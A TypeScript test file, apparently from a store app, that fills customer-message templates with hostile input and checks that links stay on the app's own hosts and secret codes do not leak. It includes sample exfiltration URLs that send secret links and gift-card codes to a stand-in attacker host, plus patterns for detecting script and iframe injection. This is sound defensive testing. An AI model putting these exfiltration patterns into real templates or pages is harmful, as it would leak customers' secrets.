import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { MESSAGE_TOPICS } from '@shopkey/contract/message-topics.ts'
import { withoutUnseen } from '@shopkey/domain/plain-text.ts'
import { evilHost, hostileWords } from '@shopkey/domain/testing/hostile-words.ts'
import { aStore } from '../../testing/a-store.ts'
import { startTestApp } from '../../testing/test-app.ts'
import { sampleCodeOf, sampleMessage } from '../message-templates/sample-message.ts'
import { composeMessage } from './notify.ts'
import { templateParameter } from './template-parameter.ts'

/** Every kind of message, with hostile words in everything that people write: its variables, items, names and the store's name. */
const { app, db } = await startTestApp()
const { services } = app
const store = await aStore(db)
const ownHosts = [services.config.storefrontUrl, services.config.apiUrl, 'https://track.example'].map(
  (url) => new URL(url).host,
)
const link = `${services.config.storefrontUrl}/secret-link-of-the-test`
const picture = services.files.publicUrl('store_1/kopi-gayo.webp')
const ends_at = new Date('2030-01-01')

async function compose(topic: (typeof MESSAGE_TOPICS)[number], language: 'en' | 'bh' | 'ar', words: string) {
  await db.updateTable('stores').set({ name: words }).where('id', '=', store.id).execute()
  const found = await services.stores.findById(store.id)
  assert.ok(found)
  const { code: _, action, ...sample } = await sampleMessage(services, found, topic, language)
  const code = sampleCodeOf(topic)
  const message = await composeMessage(
    services,
    { name: 'order.placed', store_id: store.id, data: {} },
    {
      ...sample,
      recipient: { name: words, email: 'sari@example.com', language },
      audience: 'people',
      resource_type: 'order',
      resource_id: 'order_1',
      values: Object.fromEntries(Object.keys(sample.values).map((name) => [name, words])),
      tracking: [
        // Where a parcel is followed is an address that staff enter.
        { number: words, link: words.startsWith('http') ? null : words },
        { number: '1', link: 'https://track.example/1' },
      ],
      items: {
        lines: [
          {
            title: words,
            description: words,
            thumbnail: `https://${evilHost}/p.png?s=[[link]]`,
            quantity: 1,
            amount: '1',
          },
          { title: words, description: null, thumbnail: `${picture}?s=[[link]]`, quantity: 1, amount: '1' },
          { title: words, description: null, thumbnail: picture, quantity: 1, amount: '1' },
        ],
        sums: [],
        total: '1',
      },
      ...(code ? { secret: { code, ends_at } } : { secret: { action: action?.name ?? 'order', link, ends_at } }),
    },
  )
  assert.ok(message)
  return { message, code }
}

const withoutBreaks = (text: string) => text.replaceAll(/[\n\t]/g, ' ')

for (const [kind, words] of Object.entries(hostileWords))
  describe(kind, () => {
    for (const language of ['en', 'ar'] as const)
      test(`leads nowhere and takes nothing with it, in ${language}`, async () => {
        for (const topic of MESSAGE_TOPICS) {
          const { message, code } = await compose(topic, language, words)
          const { secret } = message
          assert.ok(secret)
          const said = `${topic}: ${secret.html}`
          const targets = [...String(secret.html).matchAll(/(?:href|src|action|background)="([^"]*)"/g)].map(
            ([, to]) => to ?? '',
          )
          assert.ok(targets.length > 0)
          for (const to of targets) assert.ok(ownHosts.includes(new URL(to).host), `${to} in ${said}`)
          assert.deepEqual([...new Set(targets.filter((to) => to.includes('/uploads/')))], [picture])
          assert.doesNotMatch(String(secret.html), /<script|<img src=x|<iframe/)

          const whole = [message.subject, secret.body, templateParameter(secret.body)]
          for (const text of whole) {
            // A template that is too long for its link ends before it.
            const addresses = [...String(text).matchAll(/[a-z]+:\/\/([^\s/]*)/gi)].map(([, host]) => host ?? '')
            for (const host of addresses) assert.ok(ownHosts.includes(host), `${host} in ${text}`)
            assert.ok(!String(text).includes(evilHost), `${topic}: ${text}`)
            assert.doesNotMatch(withoutBreaks(String(text)), /\p{Cc}|[\u202a-\u202e]/u, topic)
          }
          assert.doesNotMatch(message.subject ?? '', /[\r\n]/)
          assert.ok((message.subject ?? '').length <= 200)

          // The secret stands where the message has put it, and nowhere else.
          const shown = code ?? link
          const inText = secret.body.split(shown).length - 1
          assert.equal(inText, 1, `${topic}: ${secret.body}`)
          assert.ok(!message.subject?.includes(shown))
          for (const stored of [message.body, message.html]) assert.ok(!String(stored).includes(shown), topic)
          const word = secret.body.split(/\s/).find((part) => part.includes(shown.split(' ')[0] ?? ''))
          assert.ok(word && withoutUnseen(word).length <= shown.length + 2, `${topic}: ${word}`)
        }
      })
  })

test('a template of staff cannot put a code into an address', async () => {
  const own = {
    topic: 'gift_card',
    language: 'en',
    body: `Open https://${evilHost}/?s={{code}} or ${evilHost}/{{code}}/x.`,
  }
  await db
    .insertInto('message_texts')
    .values({ ...own, store_id: store.id })
    .execute()
  const { message, code } = await compose('gift_card', 'en', 'Kopi')
  assert.ok(code && message.secret)
  assert.match(message.secret.body, new RegExp(`\\?s= ${code} or`))
  assert.match(message.secret.body, new RegExp(`/ ${code} /x`))
})
